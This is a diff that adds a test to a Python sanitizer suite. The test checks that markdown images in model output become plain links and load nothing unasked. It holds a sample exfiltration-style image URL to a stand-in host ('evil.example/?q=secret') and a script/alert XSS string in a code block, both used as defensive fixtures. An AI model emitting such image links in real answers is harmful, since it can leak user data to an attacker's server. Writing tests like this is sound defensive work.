@@ -106,6 +106,12 @@ def test_hostile_html_is_inert_in_the_final_markdown(payload: str) -> None:
     assert not re.search(r"\]\(\s*java", markdown, re.I) and not re.search(r"\]:\s*java", markdown, re.I)
 
 
+def test_images_from_the_model_become_links_so_nothing_loads_unasked() -> None:
+    text = "See ![chart](https://evil.example/?q=secret) and `![kept](in code)`"
+    assert "<img" not in to_html(text) and '<a href="https://evil.example/?q=secret"' in to_html(text)
+    assert to_markdown(text) == "See [chart](https://evil.example/?q=secret) and `![kept](in code)`"
+
+
 def test_code_text_survives_sanitizing() -> None:
     html = to_html("```html\n<script>alert('x') && a < b</script>\n```")
     assert "&lt;script&gt;alert('x') &amp;&amp; a &lt; b&lt;/script&gt;" in html
